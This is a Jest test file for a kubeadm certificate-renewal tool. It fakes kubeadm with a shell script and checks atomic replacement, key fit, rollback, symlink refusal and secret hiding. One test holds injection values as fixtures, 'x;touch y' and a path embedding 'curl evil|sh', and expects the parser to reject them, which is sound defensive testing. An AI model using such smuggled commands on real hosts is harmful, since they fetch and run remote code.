import { execFile, execFileSync, spawnSync } from 'node:child_process';
import { X509Certificate } from 'node:crypto';
import { once } from 'node:events';
import { chmod, cp, mkdir, readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { TLSSocket } from 'node:tls';
import { promisify } from 'node:util';
import { beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { kubeconfigCertificates } from '../../src/facts/kubeconfig-certificates.js';
import type { KubeadmCertificate } from '../../src/model/kubeadm-certificate.js';
import { BACKUP_ROOT } from '../../src/shell/kept-copy.js';
import { renewByKubeadm, restoreRenewed } from '../../src/shell/renew-by-kubeadm.js';
import { hasOpenssl } from '../support/openssl.js';
import { scratch } from '../support/scratch.js';
import { temporaryDirectory } from '../support/temporary-directory.js';

const present = hasOpenssl() && spawnSync('unshare', ['-m', 'true']).status === 0;
if (!present) console.warn('skipped: renewals by kubeadm, because openssl or a mount namespace of its own is missing');
const describeHere = present ? describe : describe.skip;

/**
 * In the place of kubeadm: it signs again what is in the places of its files, and writes over them in pieces as it does. Files of its
 * own say which `kind` its key has, and what goes wrong: `subject` another subject, `key` another key than the certificate's, `stranger` another authority, `fails`,
 * `nothing`, `killed` in the middle.
 */
const KUBEADM = `#!/bin/sh
set -e
[ "$1 $2 $4" = 'certs renew --cert-dir' ]
[ ! -e "$HERE/fails" ] || { echo 'kubeadm said no' >&2; exit 1; }
[ ! -e "$HERE/nothing" ] || { echo 'Detected external ca, it can not be renewed'; exit 0; }
name=$3 pki=$5 subject=$(cat "$HERE/subject" 2>/dev/null || echo /O=system:masters/CN=someone)
kind=$(cat "$HERE/kind" 2>/dev/null || echo 'ec -pkeyopt ec_paramgen_curve:P-256')
openssl req -new -newkey $kind -noenc -subj "$subject" -keyout "$HERE/new.key" -out "$HERE/request" 2>/dev/null
printf '%s\\n' "subjectAltName=$(cat "$HERE/names" 2>/dev/null || echo DNS:api.example.com,IP:10.0.0.1)" extendedKeyUsage=serverAuth,clientAuth >"$HERE/extensions"
case $name in etcd-*) ca=$pki/etcd/ca ;; *) ca=$pki/ca ;; esac
if [ -e "$HERE/stranger" ]; then
  ca=$HERE/stranger-ca
  openssl req -x509 -noenc -newkey $kind -days 3650 -subj /CN=kubernetes -keyout "$ca.key" -out "$ca.crt" 2>/dev/null
fi
openssl x509 -req -in "$HERE/request" -CA "$ca.crt" -CAkey "$ca.key" -set_serial "0x$(openssl rand -hex 8)" -days 365 -extfile "$HERE/extensions" -out "$HERE/new.crt" 2>/dev/null
[ ! -e "$HERE/key" ] || openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out "$HERE/new.key" 2>/dev/null
case $name in
*.conf)
  file=$(dirname "$pki")/$name
  text=$(sed "s#client-certificate-data: .*#client-certificate-data: $(base64 -w0 <"$HERE/new.crt")#; s#client-key-data: .*#client-key-data: $(base64 -w0 <"$HERE/new.key")#" "$file")
  : >"$file"
  [ ! -e "$HERE/killed" ] || kill -9 "$PPID" $$
  printf '%s\\n' "$text" >"$file" ;;
*)
  case $name in etcd-*) name=etcd/\${name#etcd-} ;; esac
  cat "$HERE/new.key" >"$pki/$name.key"
  [ ! -e "$HERE/killed" ] || kill -9 "$PPID" $$
  cat "$HERE/new.crt" >"$pki/$name.crt" ;;
esac
`;

let directory: string;
const inside = (name: string): string => join(directory, name);

const pair = (): KubeadmCertificate => ({
  ...{ name: 'apiserver', layout: 'pair', path: inside('k8s/pki/apiserver.crt') },
  ...{ authority: inside('k8s/pki/ca.crt'), readBy: 'kube-apiserver' },
});
const kubeconfig = (): KubeadmCertificate => ({
  ...{ name: 'admin.conf', layout: 'kubeconfig', path: inside('k8s/admin.conf') },
  ...{ authority: inside('k8s/pki/ca.crt'), readBy: undefined },
});

const SERIAL = 'ab12';

/** As kubeadm makes it, with RSA keys: they take longer to make than all the rest, so this is copied. */
const RSA = 'rsa:2048';
let made: string;

beforeAll(async () => {
  directory = temporaryDirectory('renew-made');
  made = inside('k8s');
  await mkdir(inside('bin'));
  await mkdir(inside('k8s/pki'), { recursive: true });
  await writeFile(inside('bin/kubeadm'), KUBEADM, { mode: 0o755 });
  await writeFile(inside('kind'), RSA);
  // Nobody listens there.
  const script = `set -e
cd "$HERE/k8s/pki"
openssl req -x509 -noenc -newkey rsa:2048 -days 3650 -subj /CN=kubernetes -keyout ca.key -out ca.crt 2>/dev/null
kubeadm certs renew apiserver --cert-dir "$HERE/k8s/pki"
printf 'clusters:\\n- cluster:\\n    certificate-authority-data: %s\\n    server: https://127.0.0.1:1\\n  name: kubernetes\\nusers:\\n- name: someone\\n  user:\\n    client-certificate-data: %s\\n    client-key-data: %s\\n' "$(base64 -w0 <ca.crt)" "$(base64 -w0 <apiserver.crt)" "$(base64 -w0 <apiserver.key)" >../admin.conf
rm -f "$HERE"/new.* "$HERE/request"`;
  expect(run(script)).toEqual({ status: 0, stderr: '' });
  await chmod(inside('k8s/pki/apiserver.key'), 0o640);
  await chmod(inside('k8s/admin.conf'), 0o600);
});

beforeEach(async () => {
  directory = temporaryDirectory('renew');
  await mkdir(inside('bin'));
  await writeFile(inside('bin/kubeadm'), KUBEADM, { mode: 0o755 });
  await cp(made, inside('k8s'), { recursive: true, preserveTimestamps: true });
});

function run(script: string): { readonly status: number | null; readonly stderr: string } {
  const env = { HERE: directory, PATH: `${inside('bin')}:${process.env['PATH'] ?? ''}` };
  const { status, stderr } = spawnSync('sh', ['-c', script.replaceAll(BACKUP_ROOT, inside('backups'))], {
    cwd: scratch(),
    env,
    encoding: 'utf8',
  });
  return { status, stderr };
}

/** As a host has it without curl. */
const WITHOUT_CURL = 'command() { [ "$2" != curl ]; }\n';

/** Renews while an API server listens that answers so, and says by whom it was asked. */
async function renewAsked(before: string, statusCode: number): Promise<{ readonly status: number; asked: string[] }> {
  const asked: string[] = [];
  const [cert, key, ca] = await Promise.all(
    ['apiserver.crt', 'apiserver.key', 'ca.crt'].map(async (name) => readFile(inside(`k8s/pki/${name}`))),
  );
  const server = createServer({ cert, key, ca, requestCert: true, rejectUnauthorized: false }, (request, response) => {
    const { subject } = (request.socket as TLSSocket).getPeerCertificate();
    asked.push([request.url, subject.CN].flat().join(' '));
    response.statusCode = statusCode;
    response.end('{}');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const text = await readFile(inside('k8s/admin.conf'), 'utf8');
  await writeFile(inside('k8s/admin.conf'), text.replace('https://127.0.0.1:1\n', `https://127.0.0.1:${port}\n`));
  const script = `${before}${renewByKubeadm(kubeconfig(), SERIAL).script}`.replaceAll(BACKUP_ROOT, inside('backups'));
  const env = { HERE: directory, PATH: `${inside('bin')}:${process.env['PATH'] ?? ''}` };
  const status = await promisify(execFile)('sh', ['-c', script], { cwd: scratch(), env }).then(
    () => 0,
    (error: unknown) => (error as { readonly code: number }).code,
  );
  server.closeAllConnections();
  server.close();
  return { status, asked };
}

const renew = (certificate: KubeadmCertificate) => run(renewByKubeadm(certificate, SERIAL).script);
const restore = (certificate: KubeadmCertificate) => run(restoreRenewed(certificate, SERIAL).script);

const FILES = ['admin.conf', 'pki/apiserver.crt', 'pki/apiserver.key', 'pki/ca.crt', 'pki/ca.key'];

/** Every file, with its mode. */
async function state(): Promise<Readonly<Record<string, string>>> {
  const names = await readdir(inside('k8s'), { recursive: true });
  const seen = await Promise.all(
    names.toSorted().map(async (name) => {
      const path = inside(`k8s/${name}`);
      const found = await stat(path);
      return found.isFile()
        ? [[name, `${(found.mode & 0o777).toString(8)} ${await readFile(path, 'utf8')}`] as const]
        : [];
    }),
  );
  return Object.fromEntries(seen.flat());
}

const differing = (a: Readonly<Record<string, string>>, b: Readonly<Record<string, string>>): readonly string[] =>
  Object.keys(b).filter((name) => a[name] !== b[name]);

describeHere('a certificate of kubeadm, renewed', () => {
  test('a pair lands with a new key that fits, modes and names of before, and nothing beside it', async () => {
    await writeFile(inside('kind'), RSA);
    const before = await state();
    expect(renew(pair())).toEqual({ status: 0, stderr: '' });
    const after = await state();
    expect(Object.keys(after)).toEqual(FILES);
    expect(differing(before, after)).toEqual(['pki/apiserver.crt', 'pki/apiserver.key']);
    expect(after['pki/apiserver.key']?.slice(0, 3)).toBe('640');
    const leaf = new X509Certificate(await readFile(inside('k8s/pki/apiserver.crt')));
    expect(leaf.subjectAltName).toBe('DNS:api.example.com, IP Address:10.0.0.1');
    expect(restore(pair())).toEqual({ status: 0, stderr: '' });
    expect(await state()).toEqual(before);
  });

  test('a pair of a stacked member lands in the directory of etcd, signed by its authority', async () => {
    await mkdir(inside('k8s/pki/etcd'));
    const make =
      'cd "$HERE/k8s/pki"; cp ca.crt ca.key etcd/; kubeadm certs renew etcd-server --cert-dir "$HERE/k8s/pki"';
    expect(run(make)).toEqual({ status: 0, stderr: '' });
    const before = await state();
    const authority = inside('k8s/pki/etcd/ca.crt');
    expect(renew({ ...pair(), name: 'etcd-server', path: inside('k8s/pki/etcd/server.crt'), authority })).toEqual({
      ...{ status: 0, stderr: '' },
    });
    expect(differing(before, await state())).toEqual(['pki/etcd/server.crt', 'pki/etcd/server.key']);
  });

  test('a kubeconfig keeps all but certificate and key; its fact prints the one and not the other', async () => {
    await writeFile(inside('kind'), RSA);
    const before = await state();
    expect(renew(kubeconfig())).toEqual({ status: 0, stderr: '' });
    const after = await state();
    expect(Object.keys(after)).toEqual(FILES);
    expect(differing(before, after)).toEqual(['admin.conf']);
    const shown = execFileSync('sh', ['-c', kubeconfigCertificates.script([inside('k8s/*.conf')])], {
      encoding: 'utf8',
    });
    const files = kubeconfigCertificates.parse(shown, [inside('k8s/*.conf')]).get(inside('k8s/*.conf'));
    expect(files?.map(({ path }) => path)).toEqual([inside('k8s/admin.conf')]);
    expect(new X509Certificate(files?.[0]?.pem ?? '').subject).toContain('CN=someone');
    const [, key = ''] = /client-key-data: (\S+)/.exec(after['admin.conf'] ?? '') ?? [];
    expect(key.length).toBeGreaterThan(100);
    expect([shown.includes(key.slice(0, 40)), /PRIVATE/.test(shown)]).toEqual([false, false]);
    expect(restore(kubeconfig())).toEqual({ status: 0, stderr: '' });
    expect(await state()).toEqual(before);
  });

  test.each([
    ['fails', '', 'kubeadm said no'],
    ['nothing', '', 'PATH is the old one; nothing was changed'],
    ['subject', '/O=system:masters/CN=other', 'has another subject; nothing was changed'],
    ['key', '', 'does not fit its key; nothing was changed'],
    ['stranger', '', 'was not signed by its authority; nothing was changed'],
    ['stranger subject', '/O=system:masters/CN=other', 'was not signed by its authority; nothing was changed'],
  ])('where kubeadm goes wrong (%s), nothing is touched, and nothing stays', async (files, text, message) => {
    const before = await state();
    for (const file of files.split(' ')) await writeFile(inside(file), text);
    for (const certificate of [pair(), kubeconfig()]) {
      const ended = renew(certificate);
      const told: unknown = expect.stringContaining(message.replace('PATH', certificate.path));
      expect(ended).toEqual({ status: 1, stderr: told });
      expect(ended.stderr).not.toContain('PRIVATE');
      expect(restore(certificate)).toEqual({ status: 0, stderr: '' });
    }
    expect(await state()).toEqual(before);
  });

  test('names count as a set: kubeadm sorts them, and drops those that are there twice; one that goes is noticed', async () => {
    await writeFile(inside('names'), 'IP:10.0.0.1,DNS:api.example.com,DNS:api.example.com');
    expect(renew(pair())).toEqual({ status: 0, stderr: '' });
    await writeFile(inside('names'), 'IP:10.0.0.1');
    expect(renew(pair())).toEqual({ status: 1, stderr: expect.stringContaining('has another name') as unknown });
  });

  test('of homes only plain names are listed, and no links; what was not asked for is no answer', async () => {
    for (const name of ['jane', 'x;touch y', 'linked']) await mkdir(inside(`home/${name}/.kube`), { recursive: true });
    const text = await readFile(inside('k8s/admin.conf'));
    for (const name of ['jane', 'x;touch y']) await writeFile(inside(`home/${name}/.kube/config`), text);
    await symlink(inside('k8s/admin.conf'), inside('home/linked/.kube/config'));
    const pattern = inside('home/*/.kube/config');
    const shown = execFileSync('sh', ['-c', kubeconfigCertificates.script([pattern])], { encoding: 'utf8' });
    const paths = kubeconfigCertificates
      .parse(shown, [pattern])
      .get(pattern)
      ?.map(({ path }) => path);
    expect(paths).toEqual([inside('home/jane/.kube/config')]);
    const lie = `D 0\nC ${Buffer.from(inside('home/x;curl evil|sh;/.kube/config')).toString('base64')}\n`;
    expect(() => kubeconfigCertificates.parse(lie, [pattern])).toThrow('not asked for');
  });

  test('killed between key and certificate, nobody sees a half; the next run ends it', async () => {
    const before = await state();
    await writeFile(inside('killed'), '');
    for (const certificate of [pair(), kubeconfig()]) {
      expect(renew(certificate).status).not.toBe(0);
      const now = await state();
      expect(differing(now, before)).toEqual([]);
    }
    execFileSync('rm', [inside('killed')]);
    for (const certificate of [pair(), kubeconfig()]) expect(renew(certificate)).toEqual({ status: 0, stderr: '' });
    const after = await state();
    expect(Object.keys(after)).toEqual(FILES);
    expect(differing(before, after)).toEqual(['admin.conf', 'pki/apiserver.crt', 'pki/apiserver.key']);
  });

  test('a roll-back before anything was kept changes nothing, and takes no copy of an earlier renewal', async () => {
    expect(renew(pair()).status).toBe(0);
    const after = await state();
    expect(run(restoreRenewed(pair(), 'cd34').script)).toEqual({ status: 0, stderr: '' });
    expect(await state()).toEqual(after);
  });

  test.each([
    ['curl', ''],
    ['openssl', WITHOUT_CURL],
  ])('a kubeconfig lands only where the API server knows its user, asked by %s', async (_, before) => {
    const old = await readFile(inside('k8s/admin.conf'), 'utf8');
    const asked = ['/api/v1/namespaces/kube-system someone'];
    expect(await renewAsked(before, 401)).toEqual({ status: 1, asked });
    const refused = await readFile(inside('k8s/admin.conf'), 'utf8');
    expect(refused.replace(/127\.0\.0\.1:\d+/, '127.0.0.1:1')).toBe(old);
    await writeFile(inside('k8s/admin.conf'), old);
    expect(await renewAsked(before, 403)).toEqual({ status: 0, asked });
    expect(await readFile(inside('k8s/admin.conf'), 'utf8')).not.toBe(old);
  });

  test('a symbolic link is refused', async () => {
    execFileSync('mv', [inside('k8s/admin.conf'), inside('elsewhere.conf')]);
    await symlink(inside('elsewhere.conf'), inside('k8s/admin.conf'));
    expect(renew(kubeconfig())).toEqual({
      status: 1,
      stderr: `${inside('k8s/admin.conf')} is a symbolic link: it is left as it is\n`,
    });
  });
});
